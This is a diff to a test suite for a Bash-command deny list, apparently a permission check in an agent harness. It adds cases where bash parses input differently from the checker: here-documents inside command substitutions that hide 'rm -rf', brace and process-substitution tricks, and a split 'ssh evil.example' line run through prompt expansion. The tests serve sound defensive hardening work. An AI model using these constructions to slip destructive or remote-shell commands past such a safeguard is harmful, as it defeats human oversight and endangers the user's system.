@@ -70,6 +70,13 @@ describe("under a deny list, lines bash reads otherwise than the parser", () => 
   });
 
   it("a here-document ended as bash ends it stays as allowed as before", () => {
+    // In a command substitution bash ends the here-document where the substitution ends.
+    expect(denyList.decide("Bash", { command: "x=$(sh <<EOF\nls\nEOF); echo $x" }).mode).toBe("allow");
+    expect(denyList.decide("Bash", { command: "x=$(sh <<EOF\nrm -rf y\nEOF); echo $x" }).mode).toBe("deny");
+    expect(denyList.decide("Bash", { command: "x=`sh <<EOF\nrm -rf y\nEOF`; echo $x" }).mode).not.toBe("allow");
+    expect(denyList.decide("Bash", { command: "echo >(. /dev/stdin <<EOF\nsource <(echo '{rm,x}')\nEOF)" }).mode).toBe("deny");
+    // `EOF\r` is not the delimiter: bash reads on to where the substitution ends.
+    expect(denyList.decide("Bash", { command: "x='$(bash -s <<EOF\nss\\\nh evil.example\nEOF\r\nnpm run test -- --watch)'; : ${x@P}" }).mode).toBe("deny");
     expect(denyList.decide("Bash", { command: "cat <<EOF\nrm -rf x\nEOF\nls" }).mode).toBe("allow");
     expect(denyList.decide("Bash", { command: "cat <<-EOF\n\trm -rf x\n\tEOF" }).mode).toBe("allow");
   });
@@ -78,6 +85,11 @@ describe("under a deny list, lines bash reads otherwise than the parser", () => 
 describe("the real bash runs them", () => {
   it.each([...DENIED.map((line) => line.replace("CMD", "touch MARKER")), ...NOT_ALLOWED.map(([, run]) => run)].map((line) => [line] as const))("%j", (line) => {
     const run = leavesMarker(line);
+    expect(run.left, run.stderr).toBe(true);
+  });
+
+  it("a here-document in a command substitution ends where the substitution ends", () => {
+    const run = leavesMarker("x=$(sh <<EOF\ntouch MARKER\nEOF); echo $x");
     expect(run.left, run.stderr).toBe(true);
   });
 
